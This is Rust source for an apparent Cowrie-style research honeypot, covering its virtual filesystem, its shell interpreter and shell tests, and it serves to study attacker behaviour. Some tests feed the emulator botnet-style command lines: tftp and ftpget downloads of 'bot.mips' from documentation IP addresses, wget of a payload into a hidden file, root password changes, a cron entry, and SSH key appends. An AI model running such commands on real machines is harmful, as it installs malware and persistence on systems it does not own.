        assert!(s.vfs().is_dir("/a/b/c"));
        s.execute("touch /a/b/c/f");
        assert!(s.vfs().exists("/a/b/c/f"));
        s.execute("rm -rf /a");
        assert!(!s.vfs().exists("/a"));
        // touch records a file event
        let ev = s.take_events();
        assert!(ev.file_events.iter().any(|e| e.path == "/a/b/c/f"));
    }

    #[test]
    fn chmod_octal() {
        let mut s = sh();
        s.execute("touch /tmp/b; chmod 777 /tmp/b");
        assert_eq!(s.vfs().mode("/tmp/b"), Some(0o777));
    }

    #[test]
    fn cp_and_mv_record_events() {
        let mut s = sh();
        s.execute("echo payload > /tmp/a");
        s.execute("cp /tmp/a /tmp/b");
        s.execute("mv /tmp/b /var/c");
        assert!(!s.vfs().exists("/tmp/b"));
        assert!(s.vfs().exists("/var/c"));
        let ev = s.take_events();
        let paths: Vec<&str> = ev.file_events.iter().map(|e| e.path.as_str()).collect();
        assert!(paths.contains(&"/tmp/b"));
        assert!(paths.contains(&"/var/c"));
        // cp preserves content → same hash for all three events
        let h: std::collections::BTreeSet<_> = ev.file_events.iter().map(|e| e.sha256).collect();
        assert_eq!(h.len(), 1);
    }

    #[test]
    fn head_tail_grep_wc() {
        let mut s = sh();
        s.execute("echo -e 'l1\\nl2\\nl3\\nl4' > /tmp/t");
        assert_eq!(s.execute("head -2 /tmp/t").rendered, "l1\nl2\n");
        assert_eq!(s.execute("tail -n 1 /tmp/t").rendered, "l4\n");
        assert_eq!(s.execute("grep l3 /tmp/t").rendered, "l3\n");
        assert_eq!(
            s.execute("cat /tmp/t | grep -v l2 | head -1").rendered,
            "l1\n"
        );
        assert_eq!(
            s.execute("cat /tmp/t | wc").rendered,
            "       4       4      12\n"
        );
    }

    #[test]
    fn dd_copies_and_truncates() {
        let mut s = sh();
        s.execute("echo 0123456789 > /tmp/src");
        s.execute("dd if=/tmp/src of=/tmp/dst bs=4 count=1");
        assert_eq!(s.vfs().read_file("/tmp/dst").unwrap(), b"0123");
    }

    #[test]
    fn busybox_dispatch() {
        let mut s = sh();
        assert_eq!(s.execute("busybox echo hi").rendered, "hi\n");
        assert!(s.execute("busybox").rendered.contains("BusyBox"));
        // Unknown applet handled gracefully and still "known".
        assert!(s
            .execute("busybox zzz")
            .rendered
            .contains("applet not found"));
    }

    #[test]
    fn which_finds_binaries() {
        let mut s = sh();
        assert_eq!(s.execute("which wget").rendered, "/bin/wget\n");
        assert_eq!(s.execute("which doesnotexist").rendered, "");
    }

    #[test]
    fn chpasswd_changes_shadow_hash_per_password() {
        let mut s1 = sh();
        s1.execute("echo root:pass1 | chpasswd");
        let e1 = s1.take_events();
        let mut s2 = sh();
        s2.execute("echo root:pass2 | chpasswd");
        let e2 = s2.take_events();
        assert_eq!(e1.file_events.len(), 1);
        assert_eq!(e1.file_events[0].path, "/etc/shadow");
        assert_ne!(e1.file_events[0].sha256, e2.file_events[0].sha256);
    }

    #[test]
    fn crontab_install() {
        let mut s = sh();
        s.execute("echo '* * * * * /tmp/m' > /tmp/cr; crontab /tmp/cr");
        assert!(s.vfs().exists("/var/spool/cron/root"));
        assert_eq!(s.execute("crontab -l").rendered, "no crontab for root\n");
    }

    #[test]
    fn tftp_and_ftpget_download() {
        let mut s = sh();
        s.execute("cd /tmp; tftp -g -r bot.mips 198.51.100.7");
        assert!(s.vfs().exists("/tmp/bot.mips"));
        s.execute("cd /tmp; ftpget 203.0.113.5 local.bin remote.bin");
        assert!(s.vfs().exists("/tmp/local.bin"));
        let ev = s.take_events();
        assert_eq!(ev.downloads.len(), 2);
    }

    #[test]
    fn curl_stdout_vs_file() {
        let mut s = sh();
        let out = s.execute("curl http://h/body").rendered;
        assert!(out.contains("synthetic"));
        s.execute("cd /tmp && curl -O http://h/file.bin");
        assert!(s.vfs().exists("/tmp/file.bin"));
    }

    #[test]
    fn wget_custom_output() {
        let mut s = sh();
        s.execute("wget -O /var/run/.x http://h/payload");
        assert!(s.vfs().exists("/var/run/.x"));
    }

    #[test]
    fn passwd_changes_shadow() {
        let mut s = sh();
        let out = s.execute("passwd").rendered;
        assert!(out.contains("changed"));
        let ev = s.take_events();
        assert_eq!(ev.file_events[0].path, "/etc/shadow");
    }

    #[test]
    fn nohup_and_sudo_prefixes() {
        let mut s = sh();
        assert_eq!(s.execute("sudo echo ok").rendered, "ok\n");
        assert_eq!(s.execute("nohup uname").rendered, "Linux\n");
    }

    #[test]
    fn text_tools_pass_through() {
        let mut s = sh();
        let out = s.execute("echo keepme | awk '{print $1}'").rendered;
        assert_eq!(out, "keepme\n");
    }

    #[test]
    fn sysinfo_surface() {
        let mut s = sh();
        for (cmd, needle) in [
            ("w", "load average"),
            ("whoami", "root"),
            ("id", "uid=0"),
            ("uptime", "up"),
            ("ps x", "telnetd"),
            ("lscpu", "Architecture"),
            ("ifconfig", "eth0"),
            ("df", "Filesystem"),
            ("mount", "ext4"),
            ("top", "load average"),
            ("hostname", "svr04"),
            ("ping -c 2 1.2.3.4", "packets transmitted"),
        ] {
            let out = s.execute(cmd).rendered;
            assert!(out.contains(needle), "{cmd} output missing {needle}: {out}");
        }
    }
}
