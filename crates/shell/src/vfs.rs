//! In-memory virtual filesystem for the emulated shell.
//!
//! A tree of directories and files with content bytes and a simplified mode,
//! seeded with a busybox-style layout so commands like `ls /bin`,
//! `cat /etc/passwd`, or `cat /proc/cpuinfo` produce plausible output.
//! All honeypot sessions share the same initial image but mutate a private
//! copy, exactly like Cowrie's per-session copy-on-login filesystem.
//!
//! The tree is copy-on-write: children are `Arc`-shared, so cloning a `Vfs`
//! (one per session) only copies the root directory's child map, and the
//! first mutation along a path copies just that path ([`Arc::make_mut`]).
//! [`Vfs::seeded_cached`] additionally memoizes the seeded image per
//! [`SystemProfile`] per thread, since the farm cycles through a small fixed
//! set of profiles — building the seed image once instead of once per session.

use std::cell::RefCell;
use std::collections::BTreeMap;
use std::sync::Arc;

use crate::profile::SystemProfile;

/// Node type.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum NodeKind {
    /// Directory with named children, `Arc`-shared for cheap session clones.
    Dir(BTreeMap<String, Arc<Node>>),
    /// Regular file with content.
    File(Vec<u8>),
}

/// A filesystem node.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Node {
    /// Contents.
    pub kind: NodeKind,
    /// Simplified permission bits (e.g. 0o755).
    pub mode: u32,
}

impl Node {
    fn dir() -> Node {
        Node {
            kind: NodeKind::Dir(BTreeMap::new()),
            mode: 0o755,
        }
    }

    fn file(content: &[u8], mode: u32) -> Node {
        Node {
            kind: NodeKind::File(content.to_vec()),
            mode,
        }
    }

    /// Is this node a directory?
    pub fn is_dir(&self) -> bool {
        matches!(self.kind, NodeKind::Dir(_))
    }
}

/// Errors from VFS operations.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum VfsError {
    /// Path (or a parent) does not exist.
    NotFound(String),
    /// Path exists but is a directory where a file is needed (or vice versa).
    WrongKind(String),
    /// Attempt to overwrite or remove something that must stay.
    Exists(String),
}

impl std::fmt::Display for VfsError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            VfsError::NotFound(p) => write!(f, "{p}: No such file or directory"),
            VfsError::WrongKind(p) => write!(f, "{p}: Is a directory"),
            VfsError::Exists(p) => write!(f, "{p}: File exists"),
        }
    }
}

impl std::error::Error for VfsError {}

/// The virtual filesystem.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Vfs {
    root: Node,
}

/// Normalize a path against a current working directory: makes it absolute and
/// resolves `.` and `..` components lexically.
pub fn resolve_path(cwd: &str, path: &str) -> String {
    let mut out = String::new();
    resolve_path_into(cwd, path, &mut out);
    out
}

/// [`resolve_path`] into a caller-provided buffer — the hot-path form; the
/// buffer's capacity is reused so steady-state resolution never allocates.
pub fn resolve_path_into(cwd: &str, path: &str, out: &mut String) {
    out.clear();
    fn push_comp(out: &mut String, comp: &str) {
        match comp {
            "" | "." => {}
            ".." => {
                if let Some(i) = out.rfind('/') {
                    out.truncate(i);
                }
            }
            c => {
                out.push('/');
                out.push_str(c);
            }
        }
    }
    if !path.starts_with('/') {
        for comp in cwd.split('/') {
            push_comp(out, comp);
        }
    }
    for comp in path.split('/') {
        push_comp(out, comp);
    }
    if out.is_empty() {
        out.push('/');
    }
}

thread_local! {
    /// Per-thread memo of seeded images. The farm derives profiles from a
    /// small cyclic index, so this stays tiny; linear scan beats hashing.
    static SEEDED: RefCell<Vec<(SystemProfile, Vfs)>> = const { RefCell::new(Vec::new()) };
}

impl Vfs {
    /// An empty filesystem (just `/`).
    pub fn empty() -> Self {
        Vfs { root: Node::dir() }
    }

    /// A busybox-style image parameterized by the machine profile.
    pub fn seeded(profile: &SystemProfile) -> Self {
        let mut fs = Vfs::empty();
        for d in [
            "/bin",
            "/sbin",
            "/usr/bin",
            "/usr/sbin",
            "/etc",
            "/etc/init.d",
            "/dev",
            "/proc",
            "/sys",
            "/tmp",
            "/var",
            "/var/run",
            "/var/tmp",
            "/var/log",
            "/root",
            "/home",
            "/opt",
            "/lib",
            "/mnt",
        ] {
            fs.mkdir_p(d).expect("seed dirs");
        }
        // Fake binaries so `ls /bin` and `which` look right.
        for b in [
            "busybox", "sh", "ash", "cat", "chmod", "cp", "echo", "grep", "kill", "ls", "mkdir",
            "mount", "mv", "ping", "ps", "rm", "sed", "sleep", "su", "touch", "uname", "dd", "df",
            "head", "tail", "wget", "tftp", "free", "top", "nproc",
        ] {
            fs.write_file(&format!("/bin/{b}"), b"\x7fELF", 0o755)
                .unwrap();
        }
        for b in ["ifconfig", "reboot", "init", "iptables", "telnetd"] {
            fs.write_file(&format!("/sbin/{b}"), b"\x7fELF", 0o755)
                .unwrap();
        }
        fs.write_file(
            "/etc/passwd",
            format!(
                "root:x:0:0:root:/root:/bin/sh\n\
                 daemon:x:1:1:daemon:/usr/sbin:/bin/false\n\
                 {}:x:1000:1000::/home/{}:/bin/sh\n",
                profile.service_user, profile.service_user
            )
            .as_bytes(),
            0o644,
        )
        .unwrap();
        fs.write_file("/etc/shadow", b"root:*:18113:0:99999:7:::\n", 0o600)
            .unwrap();
        fs.write_file(
            "/etc/hostname",
            format!("{}\n", profile.hostname).as_bytes(),
            0o644,
        )
        .unwrap();
        fs.write_file("/etc/resolv.conf", b"nameserver 8.8.8.8\n", 0o644)
            .unwrap();
        fs.write_file("/proc/cpuinfo", profile.cpuinfo().as_bytes(), 0o444)
            .unwrap();
        fs.write_file("/proc/meminfo", profile.meminfo().as_bytes(), 0o444)
            .unwrap();
        fs.write_file(
            "/proc/version",
            format!(
                "Linux version {} (gcc version 8.3.0) #1 SMP {}\n",
                profile.kernel_version, profile.build_date
            )
            .as_bytes(),
            0o444,
        )
        .unwrap();
        fs.write_file("/proc/mounts", b"/dev/root / ext4 rw 0 0\n", 0o444)
            .unwrap();
        fs.write_file("/dev/null", b"", 0o666).unwrap();
        fs.write_file("/var/log/wtmp", b"", 0o664).unwrap();
        fs
    }

    /// [`Vfs::seeded`], memoized per profile per thread. The returned image
    /// shares all subtrees with the cached copy; mutations copy-on-write.
    pub fn seeded_cached(profile: &SystemProfile) -> Self {
        SEEDED.with(|cell| {
            let mut cache = cell.borrow_mut();
            if let Some((_, fs)) = cache.iter().find(|(p, _)| p == profile) {
                return fs.clone();
            }
            let fs = Vfs::seeded(profile);
            cache.push((profile.clone(), fs.clone()));
            fs
        })
    }

    fn lookup(&self, abs: &str) -> Option<&Node> {
        let mut cur = &self.root;
        for comp in abs.split('/').filter(|c| !c.is_empty()) {
            match &cur.kind {
                NodeKind::Dir(children) => cur = children.get(comp)?,
                NodeKind::File(_) => return None,
            }
        }
        Some(cur)
    }

    /// Walk to a node for mutation, copy-on-writing each shared `Arc` along
    /// the path.
    fn lookup_mut(&mut self, abs: &str) -> Option<&mut Node> {
        let mut cur = &mut self.root;
        for comp in abs.split('/').filter(|c| !c.is_empty()) {
            match &mut cur.kind {
                NodeKind::Dir(children) => cur = Arc::make_mut(children.get_mut(comp)?),
                NodeKind::File(_) => return None,
            }
        }
        Some(cur)
    }

    /// Split an absolute path into (parent, name). `/` has no parent.
    fn parent_and_name(abs: &str) -> Option<(&str, &str)> {
        let trimmed = abs.trim_end_matches('/');
        if trimmed.is_empty() {
            return None;
        }
        match trimmed.rfind('/') {
            Some(0) => Some(("/", &trimmed[1..])),
            Some(i) => Some((&trimmed[..i], &trimmed[i + 1..])),
            None => None,
        }
    }

    /// Does a path exist?
    pub fn exists(&self, abs: &str) -> bool {
        self.lookup(abs).is_some()
    }

    /// Is the path an existing directory?
    pub fn is_dir(&self, abs: &str) -> bool {
        self.lookup(abs).map(|n| n.is_dir()).unwrap_or(false)
    }

    /// Read a file's content.
    pub fn read_file(&self, abs: &str) -> Result<&[u8], VfsError> {
        match self.lookup(abs) {
            None => Err(VfsError::NotFound(abs.to_string())),
            Some(Node {
                kind: NodeKind::File(c),
                ..
            }) => Ok(c),
            Some(_) => Err(VfsError::WrongKind(abs.to_string())),
        }
    }

    /// Create or overwrite a file, creating parents as needed. Returns `true`
    /// if the file already existed (i.e. this was a modification).
    pub fn write_file(&mut self, abs: &str, content: &[u8], mode: u32) -> Result<bool, VfsError> {
        let (parent, name) =
            Self::parent_and_name(abs).ok_or_else(|| VfsError::WrongKind(abs.to_string()))?;
        self.mkdir_p(parent)?;
        let pnode = self.lookup_mut(parent).expect("parent just created");
        match &mut pnode.kind {
            NodeKind::Dir(children) => {
                if let Some(existing) = children.get_mut(name) {
                    match &mut Arc::make_mut(existing).kind {
                        NodeKind::File(c) => {
                            c.clear();
                            c.extend_from_slice(content);
                            Ok(true)
                        }
                        NodeKind::Dir(_) => Err(VfsError::WrongKind(abs.to_string())),
                    }
                } else {
                    children.insert(name.to_string(), Arc::new(Node::file(content, mode)));
                    Ok(false)
                }
            }
            NodeKind::File(_) => Err(VfsError::WrongKind(parent.to_string())),
        }
    }

    /// Append to a file, creating it if missing. Returns `true` if the file
    /// already existed.
    pub fn append_file(&mut self, abs: &str, content: &[u8]) -> Result<bool, VfsError> {
        if let Some(Node {
            kind: NodeKind::File(c),
            ..
        }) = self.lookup_mut(abs)
        {
            c.extend_from_slice(content);
            return Ok(true);
        }
        self.write_file(abs, content, 0o644)
    }

    /// Create a directory and all parents.
    pub fn mkdir_p(&mut self, abs: &str) -> Result<(), VfsError> {
        let mut cur = &mut self.root;
        for comp in abs.split('/').filter(|c| !c.is_empty()) {
            match &mut cur.kind {
                NodeKind::Dir(children) => {
                    cur = Arc::make_mut(
                        children
                            .entry(comp.to_string())
                            .or_insert_with(|| Arc::new(Node::dir())),
                    );
                }
                NodeKind::File(_) => return Err(VfsError::WrongKind(abs.to_string())),
            }
            if !cur.is_dir() {
                return Err(VfsError::WrongKind(abs.to_string()));
            }
        }
        Ok(())
    }

    /// Remove a file or (recursively) a directory.
    pub fn remove(&mut self, abs: &str) -> Result<(), VfsError> {
        let (parent, name) =
            Self::parent_and_name(abs).ok_or_else(|| VfsError::Exists("/".to_string()))?;
        match self.lookup_mut(parent) {
            Some(Node {
                kind: NodeKind::Dir(children),
                ..
            }) => children
                .remove(name)
                .map(|_| ())
                .ok_or(VfsError::NotFound(abs.to_string())),
            _ => Err(VfsError::NotFound(abs.to_string())),
        }
    }

    /// Set permission bits.
    pub fn chmod(&mut self, abs: &str, mode: u32) -> Result<(), VfsError> {
        match self.lookup_mut(abs) {
            Some(n) => {
                n.mode = mode;
                Ok(())
            }
            None => Err(VfsError::NotFound(abs.to_string())),
        }
    }

    /// Mode bits of a path.
    pub fn mode(&self, abs: &str) -> Option<u32> {
        self.lookup(abs).map(|n| n.mode)
    }

    /// File size in bytes (0 for directories).
    pub fn size(&self, abs: &str) -> Option<usize> {
        self.lookup(abs).map(|n| match &n.kind {
            NodeKind::File(c) => c.len(),
            NodeKind::Dir(_) => 0,
        })
    }

    /// Sorted child names of a directory.
    pub fn list(&self, abs: &str) -> Result<Vec<String>, VfsError> {
        match self.lookup(abs) {
            None => Err(VfsError::NotFound(abs.to_string())),
            Some(Node {
                kind: NodeKind::Dir(children),
                ..
            }) => Ok(children.keys().cloned().collect()),
            Some(_) => Err(VfsError::WrongKind(abs.to_string())),
        }
    }

    /// Copy a file (not directories — matching busybox `cp` without -r).
    pub fn copy_file(&mut self, from: &str, to: &str) -> Result<bool, VfsError> {
        let content = self.read_file(from)?.to_vec();
        let mode = self.mode(from).unwrap_or(0o644);
        // `cp x dir/` semantics: append the basename.
        let dest = if self.is_dir(to) {
            let base = from.rsplit('/').next().unwrap_or(from);
            format!("{}/{}", to.trim_end_matches('/'), base)
        } else {
            to.to_string()
        };
        self.write_file(&dest, &content, mode)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn resolve_path_cases() {
        assert_eq!(resolve_path("/root", "x"), "/root/x");
        assert_eq!(resolve_path("/root", "/tmp/y"), "/tmp/y");
        assert_eq!(resolve_path("/a/b", "../c"), "/a/c");
        assert_eq!(resolve_path("/a/b", "./d/./e"), "/a/b/d/e");
        assert_eq!(resolve_path("/", ".."), "/");
        assert_eq!(resolve_path("/a", "../../.."), "/");
        assert_eq!(resolve_path("/", ""), "/");
    }

    #[test]
    fn write_and_read() {
        let mut fs = Vfs::empty();
        assert!(!fs.write_file("/tmp/a", b"hi", 0o644).unwrap());
        assert_eq!(fs.read_file("/tmp/a").unwrap(), b"hi");
        assert!(fs.write_file("/tmp/a", b"there", 0o644).unwrap());
        assert_eq!(fs.read_file("/tmp/a").unwrap(), b"there");
    }

    #[test]
    fn append_creates_then_extends() {
        let mut fs = Vfs::empty();
        assert!(!fs
            .append_file("/root/.ssh/authorized_keys", b"k1\n")
            .unwrap());
        assert!(fs
            .append_file("/root/.ssh/authorized_keys", b"k2\n")
            .unwrap());
        assert_eq!(
            fs.read_file("/root/.ssh/authorized_keys").unwrap(),
            b"k1\nk2\n"
        );
    }

    #[test]
    fn mkdir_and_list() {
        let mut fs = Vfs::empty();
        fs.mkdir_p("/a/b/c").unwrap();
        fs.write_file("/a/b/x", b"", 0o644).unwrap();
        assert_eq!(fs.list("/a/b").unwrap(), vec!["c", "x"]);
        assert!(fs.is_dir("/a/b/c"));
    }

    #[test]
    fn remove_file_and_dir() {
        let mut fs = Vfs::empty();
        fs.write_file("/t/f", b"x", 0o644).unwrap();
        fs.remove("/t/f").unwrap();
        assert!(!fs.exists("/t/f"));
        fs.remove("/t").unwrap();
        assert!(!fs.exists("/t"));
        assert_eq!(fs.remove("/nope"), Err(VfsError::NotFound("/nope".into())));
    }

    #[test]
    fn chmod_sets_mode() {
        let mut fs = Vfs::empty();
        fs.write_file("/m", b"", 0o644).unwrap();
        fs.chmod("/m", 0o777).unwrap();
        assert_eq!(fs.mode("/m"), Some(0o777));
    }

    #[test]
    fn copy_into_directory_uses_basename() {
        let mut fs = Vfs::empty();
        fs.write_file("/src/bin", b"ELF", 0o755).unwrap();
        fs.mkdir_p("/dst").unwrap();
        fs.copy_file("/src/bin", "/dst").unwrap();
        assert_eq!(fs.read_file("/dst/bin").unwrap(), b"ELF");
        assert_eq!(fs.mode("/dst/bin"), Some(0o755));
    }

    #[test]
    fn seeded_layout_has_expected_files() {
        let fs = Vfs::seeded(&SystemProfile::default());
        assert!(fs.exists("/bin/busybox"));
        assert!(fs.exists("/etc/passwd"));
        let cpuinfo = fs.read_file("/proc/cpuinfo").unwrap();
        assert!(std::str::from_utf8(cpuinfo).unwrap().contains("model name"));
        assert!(fs.is_dir("/tmp"));
    }

    #[test]
    fn write_through_file_fails() {
        let mut fs = Vfs::empty();
        fs.write_file("/f", b"", 0o644).unwrap();
        assert!(matches!(
            fs.write_file("/f/child", b"", 0o644),
            Err(VfsError::WrongKind(_))
        ));
    }

    #[test]
    fn cow_clones_do_not_observe_each_other() {
        let base = Vfs::seeded(&SystemProfile::default());
        let mut a = base.clone();
        let mut b = base.clone();
        a.write_file("/tmp/a-only", b"A", 0o644).unwrap();
        b.write_file("/etc/passwd", b"hacked", 0o644).unwrap();
        b.remove("/bin/busybox").unwrap();
        assert!(!base.exists("/tmp/a-only"));
        assert!(!b.exists("/tmp/a-only"));
        assert!(a.read_file("/etc/passwd").unwrap() != b"hacked");
        assert!(base.exists("/bin/busybox"));
        assert!(a.exists("/bin/busybox"));
        assert!(!b.exists("/bin/busybox"));
    }

    #[test]
    fn seeded_cached_matches_seeded() {
        let p = SystemProfile::for_node(7);
        assert_eq!(Vfs::seeded_cached(&p), Vfs::seeded(&p));
        // Second hit comes from the memo and must be identical too.
        assert_eq!(Vfs::seeded_cached(&p), Vfs::seeded(&p));
    }

    #[test]
    fn resolve_path_into_reuses_buffer() {
        let mut buf = String::new();
        resolve_path_into("/root", "../tmp/./x", &mut buf);
        assert_eq!(buf, "/tmp/x");
        resolve_path_into("/a/b", "", &mut buf);
        assert_eq!(buf, "/a/b");
    }

    proptest! {
        /// resolve_path is idempotent when re-resolved from root.
        #[test]
        fn prop_resolve_idempotent(cwd in "(/[a-z]{1,5}){0,3}", p in "[a-z./]{0,20}") {
            let cwd = if cwd.is_empty() { "/".to_string() } else { cwd };
            let once = resolve_path(&cwd, &p);
            let twice = resolve_path("/", &once);
            prop_assert_eq!(once, twice);
        }

        /// write/read roundtrip for arbitrary content.
        #[test]
        fn prop_write_read_roundtrip(content in proptest::collection::vec(any::<u8>(), 0..512)) {
            let mut fs = Vfs::empty();
            fs.write_file("/t/blob", &content, 0o644).unwrap();
            prop_assert_eq!(fs.read_file("/t/blob").unwrap(), &content[..]);
        }
    }
}
