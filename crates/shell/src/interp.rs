//! The shell interpreter: executes input lines against the virtual
//! filesystem, applies redirections and pipes, and records everything the
//! honeypot needs — commands (known/unknown), file events with SHA-256
//! hashes, URIs, and downloads.
//!
//! # Hot-path memory discipline
//!
//! A farm-scale day replays hundreds of thousands of sessions, so the
//! steady-state execute path is allocation-free:
//!
//! - input lines parse into a reused [`LineBuf`] (one per `sh -c` depth,
//!   pooled in [`SessionScratch`]),
//! - pipeline stdin/stdout thread through reused `String` buffers that swap
//!   rather than reallocate,
//! - recorded commands and URIs are appended to a span arena ([`EventLog`])
//!   instead of one `String` per record; [`ShellSession::take_events`]
//!   materialises the owned [`SessionEvents`] on demand,
//! - scratch sets recycle across sessions through a thread-local pool, so the
//!   warm path of `new → execute* → drop` touches the allocator only for
//!   genuine payload data (file writes, downloads).
//!
//! The compatibility API ([`ShellSession::execute`] returning rendered
//! output) clones the rendered text; the simulator uses the `_quiet`
//! variants, which do not.

use std::cell::RefCell;
use std::mem;

use hf_hash::{Digest, Sha256};
use serde::{Deserialize, Serialize};

use crate::builtins::{self, push_utf8_lossy, PathScratch};
use crate::lexer::{CmdView, LineBuf, RedirView, Words};
use crate::profile::SystemProfile;
use crate::uri;
use crate::vfs::{resolve_path_into, Vfs};

/// Supplies the bodies of "remote" resources for wget/curl/tftp/ftpget.
///
/// The simulator implements this with campaign-specific payloads so the same
/// URI always yields the same bytes (and therefore the same hash) — exactly
/// how real campaigns distribute identical droppers from many URLs.
/// (`Send` so live front-ends can hold sessions across task await points.)
pub trait RemoteFetcher: Send {
    /// Fetch the body behind a URI, or `None` for unreachable hosts.
    fn fetch(&mut self, uri: &str) -> Option<Vec<u8>>;

    /// If the fetcher already knows the hash of the body behind `uri`, return
    /// it so the interpreter can skip re-hashing the download. Must equal
    /// `Sha256::digest(&body)` for the body `fetch` would return.
    fn digest_hint(&self, _uri: &str) -> Option<Digest> {
        None
    }
}

/// A fetcher for which every host is unreachable. Useful in tests and for the
/// live front-end's safe default (the honeypot must never actually download
/// attacker-controlled content in this reproduction).
pub struct NullFetcher;

impl RemoteFetcher for NullFetcher {
    fn fetch(&mut self, _uri: &str) -> Option<Vec<u8>> {
        None
    }
}

/// A fetcher that deterministically fabricates a body from the URI itself, so
/// the live front-end still produces stable hashes without network access.
pub struct SyntheticFetcher;

impl RemoteFetcher for SyntheticFetcher {
    fn fetch(&mut self, uri: &str) -> Option<Vec<u8>> {
        let mut body = b"\x7fELF<synthetic:".to_vec();
        body.extend_from_slice(uri.as_bytes());
        body.push(b'>');
        Some(body)
    }
}

/// Whether a file event created a new file or modified an existing one.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum FileOp {
    /// The path did not previously exist.
    Created,
    /// The path existed and its content changed.
    Modified,
}

/// A file creation/modification recorded during the session, with the hash of
/// the resulting content — the paper's unit of campaign identity.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileEvent {
    /// Absolute path inside the VFS.
    pub path: String,
    /// Created vs modified.
    pub op: FileOp,
    /// Size of the file after the operation.
    pub size: usize,
    /// SHA-256 of the file content after the operation.
    pub sha256: Digest,
}

/// One executed command (one simple command of a pipeline).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CommandRecord {
    /// The command as typed (argv re-joined).
    pub input: String,
    /// Whether the honeypot emulated it ("known") or merely recorded it.
    pub known: bool,
}

/// Everything observable recorded over a session's shell phase.
#[derive(Debug, Clone, Default)]
pub struct SessionEvents {
    /// Commands in execution order.
    pub commands: Vec<CommandRecord>,
    /// File events in order.
    pub file_events: Vec<FileEvent>,
    /// URIs referenced by commands (deduplicated, sorted).
    pub uris: Vec<String>,
    /// Downloads that completed: (uri, hash of the body).
    pub downloads: Vec<(String, Digest)>,
}

/// Result of executing one input line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExecResult {
    /// Concatenated terminal output.
    pub rendered: String,
    /// Number of simple commands executed.
    pub commands_run: usize,
    /// Whether the client asked to exit (`exit` / `logout`).
    pub exited: bool,
}

/// Result of a quiet (no rendered output) execution — the simulator's path.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct QuietExec {
    /// Number of simple commands executed.
    pub commands_run: usize,
    /// Whether the client asked to exit (`exit` / `logout`).
    pub exited: bool,
}

/// Append-only span arena for per-session observables. Command inputs and
/// URIs live as byte ranges into one shared `text` buffer; only
/// [`ShellSession::take_events`] materialises owned strings.
#[derive(Debug, Default)]
pub(crate) struct EventLog {
    text: String,
    /// (start, end, known) spans into `text`.
    commands: Vec<(u32, u32, bool)>,
    /// (start, end) spans into `text`.
    pub(crate) uris: Vec<(u32, u32)>,
    pub(crate) file_events: Vec<FileEvent>,
    pub(crate) downloads: Vec<(String, Digest)>,
}

impl EventLog {
    fn clear(&mut self) {
        self.text.clear();
        self.commands.clear();
        self.uris.clear();
        self.file_events.clear();
        self.downloads.clear();
    }
}

/// Per-`sh -c`-depth line state: the parse buffer plus the pipeline's
/// stdin/stdout threading buffers and the line's rendered output.
#[derive(Debug, Default)]
struct LineScratch {
    buf: LineBuf,
    stdin: String,
    stdout: String,
    rendered: String,
    input_redirect: String,
}

/// Reusable per-session scratch. Recycled across sessions through a
/// thread-local pool so warm sessions never re-grow their buffers.
///
/// Five [`LineScratch`] slots cover the `sh -c` recursion bound: top level is
/// depth 0 and re-entry is allowed while `depth < 4`, so lines execute at
/// depths 0..=4.
#[derive(Debug, Default)]
pub struct SessionScratch {
    lines: [LineScratch; 5],
    paths: PathScratch,
    spare_events: EventLog,
}

thread_local! {
    static SCRATCH_POOL: RefCell<Vec<SessionScratch>> = const { RefCell::new(Vec::new()) };
}

const SCRATCH_POOL_CAP: usize = 8;

fn scratch_from_pool() -> SessionScratch {
    SCRATCH_POOL
        .with(|p| p.borrow_mut().pop())
        .unwrap_or_default()
}

fn scratch_to_pool(scratch: SessionScratch) {
    SCRATCH_POOL.with(|p| {
        let mut pool = p.borrow_mut();
        if pool.len() < SCRATCH_POOL_CAP {
            pool.push(scratch);
        }
    });
}

/// An interactive shell session bound to one honeypot login.
pub struct ShellSession {
    vfs: Vfs,
    cwd: String,
    profile: SystemProfile,
    fetcher: Box<dyn RemoteFetcher>,
    events: EventLog,
    exited: bool,
    /// Recursion guard for `sh -c`.
    depth: u32,
    scratch: SessionScratch,
}

impl ShellSession {
    /// Start a session on a freshly seeded filesystem.
    pub fn new(profile: SystemProfile, fetcher: Box<dyn RemoteFetcher>) -> Self {
        let vfs = Vfs::seeded_cached(&profile);
        let mut scratch = scratch_from_pool();
        let events = mem::take(&mut scratch.spare_events);
        ShellSession {
            vfs,
            cwd: "/root".to_string(),
            profile,
            fetcher,
            events,
            exited: false,
            depth: 0,
            scratch,
        }
    }

    /// The shell prompt, as the honeypot would print it.
    pub fn prompt(&self) -> String {
        format!("root@{}:{}# ", self.profile.hostname, self.cwd)
    }

    /// Has the client exited?
    pub fn exited(&self) -> bool {
        self.exited
    }

    /// Current working directory.
    pub fn cwd(&self) -> &str {
        &self.cwd
    }

    /// Read-only view of the VFS (tests, forensics tooling).
    pub fn vfs(&self) -> &Vfs {
        &self.vfs
    }

    /// Take the accumulated events, resetting the log (arena capacity is
    /// kept, so a pooled session's next run stays allocation-free).
    pub fn take_events(&mut self) -> SessionEvents {
        let ev = &mut self.events;
        let commands = ev
            .commands
            .iter()
            .map(|&(s, e, known)| CommandRecord {
                input: ev.text[s as usize..e as usize].to_string(),
                known,
            })
            .collect();
        let mut uris: Vec<String> = ev
            .uris
            .iter()
            .map(|&(s, e)| ev.text[s as usize..e as usize].to_string())
            .collect();
        uris.sort();
        uris.dedup();
        let file_events = ev.file_events.drain(..).collect();
        let downloads = ev.downloads.drain(..).collect();
        ev.text.clear();
        ev.commands.clear();
        ev.uris.clear();
        SessionEvents {
            commands,
            file_events,
            uris,
            downloads,
        }
    }

    /// Execute one input line (may contain multiple statements), returning
    /// the rendered terminal output. The render is the one owned allocation;
    /// front-ends that do not echo output should use
    /// [`ShellSession::execute_quiet`].
    pub fn execute(&mut self, line: &str) -> ExecResult {
        let commands_run = self.run_line_at_depth(line);
        let rendered = self.scratch.lines[self.depth as usize].rendered.clone();
